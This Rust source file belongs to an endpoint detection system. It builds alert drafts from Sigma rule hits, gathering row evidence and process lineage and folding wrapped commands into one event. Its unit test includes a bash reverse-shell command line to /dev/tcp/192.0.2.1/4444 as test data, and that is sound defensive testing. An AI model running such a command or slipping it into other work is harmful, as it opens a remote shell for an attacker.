//! From a rule's hit on rows to an alert draft: words of the rule, evidence of the rows, the chain of processes.

use super::evidence;
use super::process::{ProcessCache, ProcessFact, initiator, subject};
use super::rules;
use crate::incidents::{AlertDraft, MatchedRow};
use garrison_model::{
    ALERT_MATCHES_MAX, Alert, AlertId, AlertStatus, BootId, DetectionSource, DeviceId, IncidentId, InvestigationState,
    Match, MatchField, Micros, RuleId, Severity, TenantId,
};
use garrison_sigma::{Engine, Rule, RuleIndex};
use garrison_telemetry::json::time_text;
use serde_json::{Map, Value};

/// Chains of ancestors copied into one alert: a correlation may be about many processes.
const CHAINS_MAX: usize = 16;

/// A row that a rule held on.
#[derive(Debug, Clone)]
pub struct HitRow {
    /// Hunting table.
    pub table: String,
    /// Boot of the device.
    pub boot: BootId,
    /// `ReportId`.
    pub report_id: i64,
    /// The row.
    pub row: Map<String, Value>,
    /// Why the rule held.
    pub fields: Vec<MatchField>,
}

impl HitRow {
    /// The row's time, or the time it came where the device's clock told none.
    pub fn time(&self) -> Option<i64> {
        self.row.get("Timestamp")?.as_str()?.parse::<jiff::Timestamp>().ok().map(|t| t.as_microsecond())
    }

    /// Key of the process that the row is about.
    pub fn process_key(&self) -> Option<&str> {
        let column = if self.table == "DeviceProcessEvents" { "ProcessUniqueId" } else { "InitiatingProcessUniqueId" };
        self.row.get(column).or_else(|| self.row.get("InitiatingProcessUniqueId")).and_then(Value::as_str)
    }
}

/// Why a rule held, in the model's words.
pub fn explain(
    engine: &Engine,
    rule: RuleIndex,
    table: &str,
    batch: &arrow::array::RecordBatch,
    row: usize,
) -> Vec<MatchField> {
    engine
        .explain(rule, table, batch, row)
        .into_iter()
        .map(|f| MatchField { selection: f.selection, field: f.field, column: f.column, test: f.test, value: f.value })
        .collect()
}

/// What whoever found the rows says of them.
#[derive(Debug, Clone)]
pub struct Words {
    /// The rule.
    pub id: RuleId,
    /// Title.
    pub title: String,
    /// What it means.
    pub description: String,
    /// What to do about it.
    pub recommended_action: String,
    /// ATT&CK techniques.
    pub techniques: Vec<String>,
    /// Severity.
    pub severity: Severity,
    /// ATT&CK tactic.
    pub category: String,
    /// What kind of finder it is.
    pub source: DetectionSource,
}

impl Words {
    /// Of a Sigma rule; none if its id cannot be one.
    pub fn of(rule: &Rule) -> Option<Self> {
        let imported = rules::is_imported(&rule.source);
        Some(Self {
            id: RuleId::new(rule.id.clone()).ok()?,
            title: rule.title.clone(),
            description: rule.description.clone(),
            recommended_action: rule.recommended_action.clone(),
            techniques: rule.techniques.clone(),
            severity: rules::severity(rule.level),
            category: rules::category(rule),
            source: if imported { DetectionSource::CustomDetection } else { DetectionSource::EndpointDetection },
        })
    }
}

/// Makes the draft of a Sigma rule's hit; see [`draft_of`].
pub fn draft(
    tenant: &TenantId,
    device: &DeviceId,
    rule: &Rule,
    rows: Vec<HitRow>,
    event_count: usize,
    cache: &mut ProcessCache,
    now: Micros,
) -> Option<AlertDraft> {
    draft_of(tenant, device, &Words::of(rule)?, rows, event_count, cache, now)
}

/// Makes the draft. `rows` are in order of time, the last is the one that made the rule fire; empty rows give nothing.
pub fn draft_of(
    tenant: &TenantId,
    device: &DeviceId,
    words: &Words,
    rows: Vec<HitRow>,
    event_count: usize,
    cache: &mut ProcessCache,
    now: Micros,
) -> Option<AlertDraft> {
    let last = rows.last()?;
    let rule_id = words.id.clone();
    let id = AlertId::derive(tenant, device, &last.boot, u64::try_from(last.report_id).ok()?, &rule_id);
    let name = last.row.get("DeviceName").and_then(Value::as_str).unwrap_or(device.as_str()).to_owned();
    let created = time_text(now);
    let times: Vec<i64> = rows.iter().filter_map(HitRow::time).collect();
    let first_event = times.iter().min().copied().unwrap_or(now.0);
    let last_event = times.iter().max().copied().unwrap_or(now.0);

    let mut all_evidence = Vec::new();
    for row in &rows {
        evidence::merge(&mut all_evidence, evidence::of_row(&row.table, &row.row, &name, &created));
    }
    let key = last.process_key().map(str::to_owned);
    let user = ["AccountName", "InitiatingProcessAccountName"]
        .iter()
        .find_map(|column| last.row.get(*column).and_then(Value::as_str))
        .map(str::to_owned);

    let mut lineage: Vec<Vec<ProcessFact>> = Vec::new();
    for row in &rows {
        let known: Vec<ProcessFact> = subject_of(row).into_iter().chain(initiator(&row.row)).collect();
        let Some(start) = row.process_key() else { continue };
        if lineage.len() < CHAINS_MAX && !lineage.iter().any(|chain| chain.first().is_some_and(|p| p.key == start)) {
            let chain = cache.chain(device, start, &known);
            if !chain.is_empty() {
                lineage.push(chain);
            }
        }
    }
    // Without a process (a log-on, a loss) repeats are told apart by account and address.
    let fold = match &key {
        // A command that is handed on (`sh -c`, `timeout`, `sudo`) is one deed, however many processes it takes.
        Some(key) => lineage
            .iter()
            .find(|chain| chain.first().is_some_and(|p| p.key == *key))
            .map_or_else(|| key.clone(), |chain| first_of_command(chain).to_owned()),
        None => format!(
            "{}/{}",
            user.as_deref().unwrap_or(""),
            last.row.get("RemoteIP").and_then(Value::as_str).unwrap_or("")
        ),
    };
    let matched = rows.iter().map(|r| MatchedRow { boot: r.boot.clone(), report_id: r.report_id }).collect();
    let skip = rows.len().saturating_sub(ALERT_MATCHES_MAX);
    let matches = rows
        .into_iter()
        .skip(skip)
        .map(|r| Match {
            timestamp: r.time().map_or_else(|| created.clone(), |t| time_text(Micros(t))),
            table: r.table,
            fields: r.fields,
            row: Value::Object(r.row),
        })
        .collect();
    let alert = Alert {
        id,
        title: words.title.clone(),
        description: words.description.clone(),
        recommended_action: words.recommended_action.clone(),
        alert_creation_time: created.clone(),
        first_event_time: time_text(Micros(first_event)),
        last_event_time: time_text(Micros(last_event)),
        last_update_time: created,
        resolved_time: None,
        incident_id: IncidentId(0),
        investigation_state: InvestigationState::Unknown,
        assigned_to: None,
        mitre_techniques: words.techniques.clone(),
        related_user: user,
        severity: words.severity,
        status: AlertStatus::New,
        classification: None,
        determination: None,
        category: words.category.clone(),
        detection_source: words.source,
        detector_id: rule_id.clone(),
        machine_id: device.clone(),
        computer_dns_name: name,
        match_count: i64::try_from(event_count.max(1)).unwrap_or(i64::MAX),
        process_unique_id: key,
        suppressed: false,
        evidence: all_evidence,
        matches,
        hunt: None,
        comments: Vec::new(),
    };
    Some(AlertDraft { fold_key: format!("{rule_id}/{device}/{fold}"), alert, lineage, rows: matched })
}

/// Processes that may hand one command on to each other.
const WRAPPERS_MAX: usize = 4;

/// Key of the farthest ancestor whose command line still holds the one of its child, quotes aside.
fn first_of_command(chain: &[ProcessFact]) -> &str {
    let plain = |p: &ProcessFact| -> Option<String> {
        let text: String = p.command_line.as_ref()?.chars().filter(|c| !matches!(c, '"' | '\'' | '\\')).collect();
        Some(text.split_whitespace().collect::<Vec<_>>().join(" ")).filter(|t| t.len() > 2)
    };
    let holds = |outer: &str, inner: &str| {
        let starts_word = |at: usize| outer[..at].chars().next_back().is_some_and(|c| " ;&|($`".contains(c));
        outer.match_indices(inner).any(|(at, _)| starts_word(at))
    };
    let mut first = chain.first().map_or("", |p| p.key.as_str());
    for pair in chain.windows(2).take(WRAPPERS_MAX) {
        let (Some(inner), Some(outer)) = (plain(&pair[0]), plain(&pair[1])) else { break };
        if !holds(&outer, &inner) {
            break;
        }
        first = &pair[1].key;
    }
    first
}

fn subject_of(row: &HitRow) -> Option<ProcessFact> {
    if row.table == "DeviceProcessEvents" { subject(&row.row) } else { None }
}

#[cfg(test)]
mod tests {
    use super::*;
    use garrison_sigma::{Options, RuleSet};
    use serde_json::json;

    #[test]
    fn a_command_that_is_handed_on_is_one_deed() {
        let fact = |key: &str, command: &str| ProcessFact {
            key: key.into(),
            command_line: Some(command.into()),
            ..Default::default()
        };
        let chain = [
            fact("d", "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
            fact("c", "timeout 5 bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
            fact("b", "sh -c timeout 5 bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' </dev/null"),
            fact("a", "/usr/sbin/apache2 -k start"),
        ];
        assert_eq!(first_of_command(&chain), "b");
        assert_eq!(first_of_command(&chain[3..]), "a");
        assert_eq!(first_of_command(&[fact("b", "sh"), fact("a", "bash")]), "b", "only whole words, and no short ones");
        assert_eq!(first_of_command(&[fact("b", "id"), fact("a", "sh -c id")]), "b");
        assert_eq!(first_of_command(&[ProcessFact::default()]), "");
        assert_eq!(first_of_command(&[]), "");
    }

    #[test]
    fn a_draft_carries_rule_row_evidence_and_chain() {
        let text = "title: Shell\nid: r1\nlevel: critical\nlogsource: {product: linux, category: process_creation}\n\
                    tags: [attack.execution, attack.t1059.004]\ndetection: {s: {Image|endswith: /sh}, condition: s}\n";
        let (set, _) = RuleSet::load([("a.yml", text)], &Options::default());
        let rule = &set.rules()[0];
        let Value::Object(row) = json!({
            "Timestamp": "2026-11-23T10:00:00.000000Z", "DeviceName": "web1", "ActionType": "ProcessCreated", "ProcessUniqueId": "k",
            "ProcessId": 7, "FileName": "sh", "FolderPath": "/bin/sh", "AccountName": "www-data", "AccountSid": "33",
            "InitiatingProcessUniqueId": "p", "InitiatingProcessFileName": "php-fpm", "InitiatingProcessId": 6
        }) else {
            unreachable!()
        };
        let device = DeviceId::new("ab".repeat(20)).unwrap();
        let boot = BootId::new("0f1e2d3c-0000-4000-8000-0123456789ab").unwrap();
        let hit = HitRow { table: "DeviceProcessEvents".into(), boot, report_id: 9, row, fields: vec![] };
        let mut cache = ProcessCache::new();
        let make = |cache: &mut ProcessCache, hit: HitRow| {
            draft(&TenantId::first(), &device, rule, vec![hit], 1, cache, Micros(1)).unwrap()
        };
        let draft = make(&mut cache, hit.clone());
        assert_eq!(draft.alert.severity, garrison_model::Severity::High, "critical is the alerts' High");
        assert_eq!(draft.alert.category, "Execution");
        assert_eq!(draft.alert.mitre_techniques, ["T1059.004"]);
        assert_eq!(draft.alert.process_unique_id.as_deref(), Some("k"));
        let chain: Vec<_> = draft.lineage[0].iter().map(|p| p.file_name.as_str()).collect();
        assert_eq!(chain, ["sh", "php-fpm"]);
        assert_eq!(make(&mut cache, hit).alert.id, draft.alert.id, "the same row is the same alert");
    }
}
